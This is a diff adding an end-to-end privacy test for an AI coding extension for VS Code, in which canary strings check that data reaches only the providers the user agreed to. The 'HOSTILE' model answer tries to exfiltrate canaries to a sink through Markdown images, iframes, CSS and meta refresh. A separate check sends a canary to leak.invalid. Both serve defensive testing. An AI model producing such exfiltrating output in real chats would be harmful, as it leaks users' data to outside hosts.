@@ -1,0 +1,552 @@
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { randomBytes } from 'node:crypto';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { after, test } from 'node:test';
+import { startOpenAi } from '../servers/openai.ts';
+import { ChatPage } from './chatPage.ts';
+import { openVSCode, type Window } from './harness.ts';
+import { settingsFor, startModels } from './models.ts';
+import { RECORDER, Recorder } from './recorder.ts';
+
+/**
+ * The privacy proof: each feature is used once in real VS Code, while every connection of the extension host and every
+ * request of its pages is written down. Unique words (canaries) lie in files, settings, the environment, names, answers
+ * and prompts; each may be found only where the user put it, or sent it.
+ */
+
+/** Where a canary may be found besides the place where it was planted. */
+type Place = 'ollama' | 'mid' | 'frontier' | 'chats';
+
+const RUN = randomBytes(4).toString('hex');
+/** For secrets: in no place, and in no file of anybody. */
+const NEVER: readonly Place[] = [];
+/** All canaries with the places where they may be found. */
+const allowed = new Map<string, readonly Place[]>();
+function canary(name: string, ...places: Place[]): string {
+  const word = `canary-${name}-${RUN}`;
+  allowed.set(word, places);
+  return word;
+}
+function secret(name: string): string {
+  const word = canary(name);
+  allowed.set(word, NEVER);
+  return word;
+}
+
+const CHAT: readonly Place[] = ['mid', 'chats'];
+const C = {
+  // Never sent, and stored nowhere.
+  environment: secret('environment'),
+  setting: canary('setting'),
+  env: secret('dotenv'),
+  ignored: canary('ignored'),
+  ignoredFolder: canary('ignoredfolder'),
+  outside: canary('outside'),
+  gitConfig: canary('gitconfig'),
+  branch: canary('branch'),
+  unasked: canary('unasked'),
+  unaskedName: canary('unaskedname'),
+  unusedPrompt: canary('unusedprompt'),
+  clipboard: canary('clipboard'),
+  leak: canary('leak'),
+  importedKey: secret('importedkey'),
+  strangerKey: secret('strangerkey'),
+  commitBody: canary('commitbody'),
+  // Sent where the user sent them.
+  typed: canary('typed', 'ollama'),
+  neighbor: canary('neighbor', 'ollama'),
+  attached: canary('attached', ...CHAT),
+  folder: canary('folder', ...CHAT),
+  fileName: canary('filename', ...CHAT),
+  question: canary('question', ...CHAT),
+  prompt: canary('prompt', ...CHAT),
+  rules: canary('rules', 'frontier', ...CHAT),
+  answer: canary('answer', ...CHAT),
+  link: canary('link', ...CHAT),
+  escalated: canary('escalated', 'frontier', 'chats'),
+  escalatedAnswer: canary('escalatedanswer', 'frontier', 'chats'),
+  instruction: canary('instruction', 'mid', 'frontier'),
+  edited: canary('edited', 'mid', 'frontier'),
+  renamed: canary('renamed', 'mid', 'frontier'),
+  changed: canary('changed', 'mid', 'frontier', 'chats'),
+  subject: canary('subject', 'mid', 'frontier'),
+};
+/** Put together here, so that no file holds a whole key. */
+const TOKEN = ['ghp', `${RUN}a1B2c3D4e5F6g7H8i9J0k1L2m3N4`].join('_');
+
+const models = await startModels();
+const { cloud, ollama } = models;
+const frontier = await startOpenAi({
+  apiKey: `${RUN}-frontier`,
+  models: [{ name: 'deep', price: { input: 5, output: 25 } }],
+});
+/** A provider that the settings name and that the user never agreed to. */
+const stranger = await startOpenAi({ models: [{ name: 'strange' }] });
+const recorder = await Recorder.start(C.leak);
+const keyOf = (name: string): string => `${RUN}-${name}`;
+cloud.settings.apiKey = keyOf('mid');
+
+const beside = fs.mkdtempSync(path.join(os.tmpdir(), 'gearshift-beside-'));
+fs.writeFileSync(path.join(beside, 'away.txt'), `${C.outside}\n`);
+fs.writeFileSync(
+  path.join(beside, 'config.yaml'),
+  `name: Mine\nversion: 1.0.0\nschema: v1\nmodels:\n  - { name: Strange, provider: openai, model: strange, apiBase: "${stranger.baseUrl}", apiKey: ${C.importedKey} }\n`,
+);
+
+const base = settingsFor(models);
+const settings = {
+  ...base,
+  'git.enabled': true,
+  'git.autofetch': false,
+  'gearshift.providers': {
+    ...base['gearshift.providers'],
+    cloud: { ...base['gearshift.providers'].cloud, apiKeyEnv: 'SPEC_MID_KEY' },
+    deep: {
+      kind: 'openai',
+      baseUrl: frontier.baseUrl,
+      apiKeyEnv: 'SPEC_FRONTIER_KEY',
+      prices: { deep: { input: 5, output: 25 } },
+    },
+    stranger: { kind: 'openai', baseUrl: stranger.baseUrl, apiKeyEnv: 'SPEC_STRANGER_KEY' },
+  },
+  'gearshift.tiers.frontier': ['deep/deep'],
+  'gearshift.consent.cloud': [cloud.url, frontier.url],
+  'gearshift.privacy.ignore': ['hidden.ts', 'customers/'],
+  'files.exclude': { [`${C.setting}-never`]: true },
+};
+const code = await openVSCode({
+  settings,
+  env: {
+    ...recorder.env,
+    OLLAMA_HOST: undefined,
+    SPEC_MID_KEY: keyOf('mid'),
+    SPEC_FRONTIER_KEY: keyOf('frontier'),
+    SPEC_STRANGER_KEY: C.strangerKey,
+    SPEC_SECRET: C.environment,
+    CONTINUE_GLOBAL_DIR: beside,
+  },
+  extensions: [RECORDER],
+  files: {
+    'typed.ts': `// ${C.typed}\nexport function add(a: number, b: number) {\n  \n}\n`,
+    'neighbor.ts': `export const neighbor = '${C.neighbor}';\n`,
+    'attached.ts': `export const attached = '${C.attached}';\nexport const key = '${TOKEN}';\n`,
+    [`${C.fileName}.ts`]: 'export const named = 1;\n',
+    [`${C.unaskedName}.ts`]: `export const unasked = '${C.unasked}';\n`,
+    'part/inside.ts': `export const inside = '${C.folder}';\n`,
+    'part/.env': `TOKEN=${C.env}\n`,
+    'hidden.ts': `export const hidden = '${C.ignored}';\n`,
+    'part/hidden.ts': `export const hidden = '${C.ignored}';\n`,
+    'customers/list.ts': `export const list = '${C.ignoredFolder}';\n`,
+    '.env': `TOKEN=${C.env}\n`,
+    'hard.ts': `export function hard(): string {\n  return '${C.escalated}';\n}\n`,
+    'edit.ts': `export function edit() {\n  return '${C.edited}';\n}\n`,
+    'name.ts': `export const badName = '${C.renamed}';\n`,
+    'change.ts': 'export const change = 1;\n',
+    'AGENTS.md': `Rules: ${C.rules}\n`,
+    '.gearshift/prompts/used.md': `---\ndescription: Used\nversion: 1\n---\n${C.prompt} {{input}}\n`,
+    '.gearshift/prompts/unused.md': `---\ndescription: Unused\nversion: 1\n---\n${C.unusedPrompt} {{input}}\n`,
+  },
+  prepare: (workspace) => {
+    fs.symlinkSync(path.join(beside, 'away.txt'), path.join(workspace, 'part/away.txt'));
+    git(workspace, 'init', '-q', '-b', C.branch);
+    git(workspace, 'config', 'remote.origin.url', `https://me:${C.gitConfig}@git.example/x.git`);
+    git(workspace, 'add', '-A', '-f');
+    git(workspace, 'commit', '-qm', `${C.subject}\n\n${C.commitBody}`);
+    fs.writeFileSync(path.join(workspace, 'change.ts'), `export const change = '${C.changed}';\n`);
+    fs.writeFileSync(path.join(workspace, '.env'), `TOKEN=${C.env}-changed\n`);
+    fs.writeFileSync(path.join(workspace, 'hidden.ts'), `export const hidden = '${C.ignored}-changed';\n`);
+    git(workspace, 'add', '-A', '-f');
+  },
+});
+recorder.watch(code.context);
+after(async () => {
+  await code.close();
+  await Promise.all([models.stop(), frontier.stop(), stranger.stop(), recorder.stop()]);
+  fs.rmSync(beside, { recursive: true });
+});
+
+function git(workspace: string, ...args: string[]): void {
+  const who = ['-c', 'user.name=Specs', '-c', 'user.email=specs@gearshift.invalid', '-c', 'commit.gpgsign=false'];
+  execFileSync('git', [...who, ...args], { cwd: workspace });
+}
+
+const servers = { ollama, mid: cloud, frontier } as const;
+
+/** Everything that a server was sent, as text. */
+const receivedBy = ({ book }: { readonly book: (typeof cloud)['book'] }): string =>
+  book.entries
+    .map(({ path: to, query, headers, rawBody }) => `${to}?${query}\n${JSON.stringify(headers)}\n${rawBody}`)
+    .join('\n');
+
+/** Text may hold a word as it is, or as JSON, URLs and base64 spell it. */
+function holds(text: string, word: string): boolean {
+  // The middle bytes of the three ways in which base64 can fall on a word.
+  const coded = [0, 1, 2].map((skip) => Buffer.from(word.slice(skip)).toString('base64').slice(0, 24));
+  return [word, Buffer.from(word).toString('hex'), ...coded].some((form) => text.includes(form));
+}
+
+/** What went where it should not have gone, as sentences. Empty when all held. */
+function leaks(agreed: readonly { readonly url: string }[]): string[] {
+  // The settings page looks for an Ollama at its own address of this computer.
+  const ports = new Set([OLLAMA_PORT, ...agreed.map(({ url }) => Number(new URL(url).port))]);
+  const found: string[] = [];
+  for (const { kind, host = '', port = 0, file = '', given = [] } of recorder.contacts) {
+    if (kind === 'connection' && !(isHere(host) && (ports.has(port) || port === code.server.port)))
+      found.push(`the extension host connected to ${host}:${port}`);
+    if (kind === 'look-up') found.push(`the extension host looked up ${host}`);
+    if (kind === 'datagram') found.push(`the extension host sent a datagram to ${host}`);
+    if (kind === 'program')
+      for (const word of allowed.keys())
+        // VS Code's git extension names branches and files to git.
+        if (!/git(\.exe)?$/.test(file) && [file, ...given].join(' ').includes(word))
+          found.push(`${file} was given ${word}`);
+  }
+  for (const head of recorder.sunk) found.push(`the sink was sent: ${head.slice(0, 200)}`);
+  for (const { url, body, isOurs } of recorder.requests) {
+    const { hostname, port, protocol } = new URL(url);
+    if (isOurs && !/^(data|blob|vscode-webview):$/.test(protocol) && !isEditorsOwn(hostname, port))
+      found.push(`our page requested ${url}`);
+    for (const word of [...allowed.keys(), TOKEN])
+      if (holds(url, word) && isOurs) found.push(`a page requested ${url}`);
+      else if (!isEditorsOwn(hostname, port) && holds(`${url}\n${body}`, word))
+        found.push(`a page sent ${word} to ${url}`);
+  }
+  return [...new Set(found)];
+}
+
+const OLLAMA_PORT = 11434;
+const isHere = (host: string): boolean => /^(localhost|127\.0\.0\.1|::1)$/.test(host);
+/** The editor's own server, and the address from which its service worker serves the files of web views. */
+const isEditorsOwn = (hostname: string, port: string): boolean =>
+  (hostname === '127.0.0.1' && Number(port) === code.server.port) || hostname.endsWith('.vscode-cdn.net');
+
+/**
+ * Canaries that were found outside of their places, as sentences.
+ *
+ * @param mayStayHere whether the model server of this computer may get a canary with these places
+ */
+function strays(mayStayHere: (places: readonly Place[]) => boolean): string[] {
+  const found: string[] = [];
+  const look = (where: string, text: string, may: (places: readonly Place[]) => boolean): void => {
+    for (const [word, places] of allowed)
+      if (!may(places) && holds(text, word)) {
+        const at = text.indexOf(word);
+        found.push(`${word} in ${where}: ${text.slice(Math.max(0, at - 150), at + 80)}`);
+      }
+    if (holds(text, TOKEN) && where !== 'chats') found.push(`the token in ${where}`);
+  };
+  for (const [place, server] of Object.entries(servers))
+    look(place, receivedBy(server), (places) =>
+      place === 'ollama' ? mayStayHere(places) : places.includes(place as Place),
+    );
+  look('stranger', receivedBy(stranger), () => false);
+  // Keys go to their own origin only.
+  for (const [place, server] of Object.entries({ ...servers, stranger }))
+    for (const name of ['mid', 'frontier'])
+      if (place !== name && receivedBy(server).includes(keyOf(name))) found.push(`the key of ${name} at ${place}`);
+  look('the log', code.logs(), () => false);
+  const data = path.join(code.dir, 'data');
+  for (const file of fs.readdirSync(data, { recursive: true, encoding: 'utf8' })) {
+    const full = path.join(data, file);
+    if (!fs.statSync(full).isFile() || full === code.server.settingsFile) continue;
+    // VS Code keeps earlier versions of files that were saved, and unsaved ones.
+    if (/^User\/(History|Backups)\//.test(file)) continue;
+    const text = fs.readFileSync(full, 'latin1');
+    const isOurs = file.includes('gearshift.gearshift');
+    const isChat = isOurs && file.endsWith('.jsonl');
+    // What VS Code's other extensions write down (a branch, a file that is open) is their matter, but no secret may be there.
+    look(isChat ? 'chats' : file, text, (places) => (isChat ? places.includes('chats') : !isOurs && places !== NEVER));
+    for (const name of ['mid', 'frontier']) if (text.includes(keyOf(name))) found.push(`the key of ${name} in ${file}`);
+  }
+  return [...new Set(found)];
+}
+
+/** Waits for what could still be under way. */
+async function settle(window: Window): Promise<void> {
+  await Promise.all([...Object.values(servers), stranger].map(({ book }) => book.quiet(500)));
+  await window.page.waitForTimeout(500);
+}
+
+const written = (window: Window, file: string) =>
+  window.notification(`Gearshift edits ${file}`).waitFor({ state: 'hidden', timeout: 30_000 });
+
+test(
+  'the proof can fail: a connection of the extension host and a request of a page are both seen',
+  code.inWindow(async (window) => {
+    await window.command('Recorder: Leak');
+    // The policy of the editor's own page lets it connect to https only.
+    await window.page.evaluate(
+      (url) => fetch(url, { method: 'POST', mode: 'no-cors' }).catch(() => undefined),
+      `https://leak.invalid/${C.clipboard}`,
+    );
+    for (let tries = 50; tries > 0 && recorder.sunk.length < 1; tries--) await window.page.waitForTimeout(100);
+    const found = leaks([ollama, cloud, frontier]).join('\n');
+    assert.match(found, /the extension host connected to leak\.example:4321/);
+    assert.match(found, new RegExp(`the sink was sent: GET /${C.leak}`));
+    assert.match(found, new RegExp(`a page sent ${C.clipboard} to `));
+    recorder.reset();
+  }),
+);
+
+/** An answer that wants to be fetched from, in every way that Markdown and HTML know. */
+const HOSTILE = (to: string): string =>
+  [
+    `Fine. ${C.answer}`,
+    `![picture](${to}/${C.link}-1)`,
+    `<img src="${to}/${C.link}-2"><iframe src="${to}/${C.link}-3"></iframe><link rel=prefetch href="${to}/${C.link}-4">`,
+    `<svg><image href="${to}/${C.link}-5"/></svg><video poster="${to}/${C.link}-6"></video><object data="${to}/${C.link}-7">`,
+    `<style>body{background:url(${to}/${C.link}-8)}</style><meta http-equiv=refresh content="0;url=${to}/${C.link}-9">`,
+    `[link](${to}/${C.link}-10) <${to}/${C.link}-11> [id]`,
+    '',
+    `[id]: ${to}/${C.link}-12`,
+    '',
+    '```ts',
+    `import '${to}/${C.link}-13';`,
+    '```',
+  ].join('\n');
+
+test(
+  'each feature is used once: no host is contacted that was not agreed to, and no canary leaves its place',
+  code.inWindow({ used: true }, async (window) => {
+    const { page } = window;
+    recorder.reset();
+    await page.evaluate((text) => navigator.clipboard.writeText(text), C.clipboard);
+
+    // Ghost text, with other files open, of which one holds secrets.
+    for (const file of ['.env', 'hidden.ts', 'neighbor.ts']) await window.openFile(file);
+    ollama.script('return a + b;');
+    await window.openFile('typed.ts');
+    await window.goTo(3, 999);
+    await window.type('re');
+    await window.ghostText();
+    await window.acceptGhostText();
+
+    // The chat, with every kind of context, and an answer that wants to be fetched from.
+    cloud.script(HOSTILE(recorder.sinkUrl));
+    const chat = await ChatPage.open(window);
+    await chat.mention('attached', 'attached.ts');
+    await chat.mention('filename', `${C.fileName}.ts`);
+    await chat.mention('folder:part', 'part');
+    await chat.mention('search:inside', 'Lines with');
+    await chat.mention('diff', '@diff:staged');
+    await chat.frame.locator('.composer .chip').nth(4).waitFor();
+    await chat.composer().press('End');
+    await chat.composer().pressSequentially(C.question, { delay: 5 });
+    await chat.composer().press('Enter');
+    await chat.ended(0);
+    await chat.ask('/used again');
+    await chat.ended(1);
+    await chat.answer(1).locator('.code-block').first().hover();
+    await window.command('Gearshift: Open Chat in Editor');
+    await window.command('View: Close All Editors');
+    await window.reload();
+
+    // Escalation.
+    frontier.script(`It is hard. ${C.escalatedAnswer}`);
+    await window.openFile('hard.ts');
+    await window.selectLines(1, 3);
+    await window.command('Gearshift: Escalate: Review');
+    await page.locator('.quick-input-widget:visible').getByText('no secrets found').waitFor();
+    await window.press('Enter');
+    await (await ChatPage.find(window)).ended(0);
+
+    // An inline edit, and a name from the light bulb.
+    cloud.script('```ts\nexport function edit() {\n  return 1;\n}\n```');
+    await window.openFile('edit.ts');
+    await window.selectLines(1, 3);
+    await window.command('Gearshift: Edit Inline');
+    await window.answer('For example', C.instruction);
+    await page.locator('.monaco-diff-editor').locator('.line-insert, .char-insert').first().waitFor();
+    await written(window, 'edit.ts');
+    await window.command('Gearshift: Apply Proposed Change');
+    await window.editor('edit.ts').getByText('return 1').first().waitFor();
+    await window.openFile('name.ts');
+    await window.goTo(1, 14);
+    await window.press('Shift+ArrowRight');
+    cloud.script('better\nbest');
+    await window.lightBulb('Suggest a better name with Gearshift');
+    await window.pick('best');
+
+    // Changes: the commit message and the review.
+    cloud.script('Change it');
+    await page
+      .getByRole('tab', { name: /^Source Control/ })
+      .first()
+      .click();
+    await page.locator('.scm-view .monaco-list-row', { hasText: 'change.ts' }).waitFor({ timeout: 60_000 });
+    // The buttons of a view show while the mouse is over it.
+    await page.locator('.scm-view').first().hover();
+    await page.getByRole('button', { name: 'Generate Commit Message with Gearshift' }).first().click();
+    await page.locator('.scm-view .scm-editor .view-lines').first().getByText('Change it', { exact: true }).waitFor();
+    cloud.script(JSON.stringify({ findings: [] }));
+    await window.command('Gearshift: Review My Changes');
+    await window.pick('Staged changes');
+    await window.notification('The review found nothing').waitFor();
+
+    // The pages: settings with all their tests, local models, the meter, the ledger's export, the walkthrough, an import.
+    await window.command('Gearshift: Open Settings');
+    const pageOf = await window.webview('#ollama');
+    await pageOf.locator('[data-provider="cloud"]').getByRole('button', { name: /^Test/ }).click();
+    await pageOf
+      .locator('[data-provider="cloud"]')
+      .getByText(/Connected in|models available/)
+      .first()
+      .waitFor();
+    await pageOf.getByRole('button', { name: 'Check everything' }).click();
+    await pageOf.locator('.findings li').first().waitFor();
+    await window.command('Gearshift: Manage Local Models');
+    await pageOf
+      .locator('[data-ollama="ollama"]')
+      .getByText(/^Ollama \d/)
+      .waitFor();
+    await window.command('Gearshift: Open Meter');
+    await window.webview('#root table');
+    await window.command('Gearshift: Export Ledger');
+    await page.waitForFunction(() =>
+      [...document.querySelectorAll('.quick-input-widget input.input')].some((input) =>
+        (input as HTMLInputElement).value.endsWith('.csv'),
+      ),
+    );
+    await window.press('Enter');
+    await window.notification(/rows? of the ledger exported/).waitFor();
+    await window.command('Gearshift: Get Started');
+    await window.command('Gearshift: Import Settings…');
+    await window.pick('Continue config.yaml');
+    await window.dialog('Import from Continue config.yaml?').getByRole('button', { name: 'Import' }).click();
+    const imported = await window.webview('#presets');
+    await imported.locator('.imported').getByText('into the secret storage').waitFor();
+
+    await settle(window);
+    assert.deepEqual(leaks([ollama, cloud, frontier]), []);
+    assert.deepEqual(
+      strays((places) => places.includes('ollama')),
+      [],
+    );
+    assert.deepEqual(stranger.book.entries, []);
+    const exported = fs.readdirSync(code.workspace).filter((file) => file.endsWith('.csv'));
+    for (const file of exported)
+      for (const word of allowed.keys()) assert.ok(!code.onDisk(file)?.includes(word), `${word} in ${file}`);
+    // What the user sent did arrive: otherwise this test would prove nothing.
+    for (const [place, server] of Object.entries(servers))
+      for (const word of SENT[place as keyof typeof SENT])
+        assert.ok(holds(receivedBy(server), word), `${word} never arrived at ${place}`);
+  }),
+);
+
+/** What must have arrived, so that the test is about something. */
+const SENT = {
+  ollama: [C.typed],
+  mid: [
+    C.attached,
+    C.folder,
+    C.fileName,
+    C.question,
+    C.prompt,
+    C.rules,
+    C.answer,
+    C.changed,
+    C.subject,
+    C.instruction,
+    C.edited,
+    C.renamed,
+  ],
+  frontier: [C.escalated],
+} as const;
+
+test(
+  'in private mode the same features reach the model server of this computer and nothing else',
+  code.inWindow({ settings: { 'gearshift.private': true }, used: true }, async (window) => {
+    const { page } = window;
+    await settle(window);
+    for (const server of [...Object.values(servers), stranger]) server.reset();
+    recorder.reset();
+
+    ollama.script('return a * b;');
+    await window.openFile('typed.ts');
+    await window.goTo(3, 999);
+    await window.type('re');
+    await window.ghostText();
+
+    const chat = await ChatPage.open(window);
+    for (const tier of ['mid', 'frontier'] as const) {
+      await chat.button('New chat').first().click();
+      await chat.frame.locator('.empty').waitFor();
+      await chat.chooseTier(tier);
+      await chat.ask(`Is anybody there, ${tier}?`);
+      await chat.answer(0).locator('.status', { hasText: 'Private mode is on' }).waitFor();
+    }
+    await window.openFile('hard.ts');
+    await window.command('Gearshift: Escalate: Review');
+    await page.waitForTimeout(1_000);
+    await window.press('Enter');
+    await page.waitForTimeout(1_000);
+    await window.command('View: Close All Editors');
+    await window.openFile('edit.ts');
+    await window.selectLines(1, 3);
+    await window.command('Gearshift: Edit Inline');
+    await window.answer('For example', C.instruction);
+    await page.locator('.monaco-diff-editor').locator('.line-insert, .char-insert').first().waitFor();
+    await written(window, 'edit.ts');
+    await window.command('Gearshift: Discard Proposed Change');
+    await page
+      .getByRole('tab', { name: /^Source Control/ })
+      .first()
+      .click();
+    await page.locator('.scm-view .monaco-list-row', { hasText: 'change.ts' }).waitFor({ timeout: 60_000 });
+    // The buttons of a view show while the mouse is over it.
+    await page.locator('.scm-view').first().hover();
+    await page.getByRole('button', { name: 'Generate Commit Message with Gearshift' }).first().click();
+    await page.locator('.scm-view .scm-editor .view-lines').first().getByText('return a * b;').first().waitFor();
+    await window.command('Gearshift: Open Settings');
+    const pageOf = await window.webview('#ollama');
+    await pageOf.locator('[data-provider="cloud"]').getByRole('button', { name: /^Test/ }).click();
+    await pageOf
+      .locator('[data-provider="cloud"] .result')
+      .getByText(/Private mode is on/)
+      .waitFor();
+    await pageOf.getByRole('button', { name: 'Check everything' }).click();
+    await pageOf.locator('.findings li').first().waitFor();
+
+    await settle(window);
+    assert.deepEqual(leaks([ollama]), []);
+    // What the user sends goes to the local tier instead.
+    assert.deepEqual(
+      strays((places) => places.length > 0),
+      [],
+    );
+    for (const server of [cloud, frontier, stranger]) assert.deepEqual(server.book.entries, []);
+    assert.ok(ollama.book.calls.length > 0);
+  }),
+);
+
+test(
+  'T21 another extension runs every command that costs money: nothing is sent before the user agrees to the price',
+  code.inWindow(async (window) => {
+    for (const server of [...Object.values(servers), stranger]) server.reset();
+    recorder.reset();
+    await window.openFile('hard.ts');
+    await window.page
+      .getByRole('tab', { name: /^Source Control/ })
+      .first()
+      .click();
+    await window.page.locator('.scm-view .monaco-list-row', { hasText: 'change.ts' }).waitFor({ timeout: 60_000 });
+    await window.editor('hard.ts').click();
+    await window.command('Recorder: Call Paid Commands');
+    await window
+      .dialog(/Send to|asked for this/)
+      .first()
+      .waitFor();
+    await window.page.waitForTimeout(8_000);
+    await settle(window);
+    for (const server of [cloud, frontier, stranger]) assert.deepEqual(server.book.calls, []);
+    for (let tries = 30; tries > 0 && (await window.dialog().count()) > 0; tries--) {
+      await window.press('Escape');
+      await window.page.waitForTimeout(300);
+    }
+    await settle(window);
+    for (const server of [cloud, frontier, stranger]) assert.deepEqual(server.book.calls, []);
+  }),
+);
